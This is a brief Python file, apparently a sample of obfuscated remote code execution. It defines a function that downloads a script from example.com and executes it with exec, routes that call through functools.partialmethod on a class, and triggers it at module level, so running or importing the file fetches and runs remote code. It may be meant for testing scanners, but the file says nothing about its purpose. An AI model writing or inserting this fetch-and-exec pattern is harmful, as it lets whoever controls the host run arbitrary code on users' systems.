import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import functools


class A:
    def do(self, f):
        f()
    go = functools.partialmethod(do, _go)


A().go()
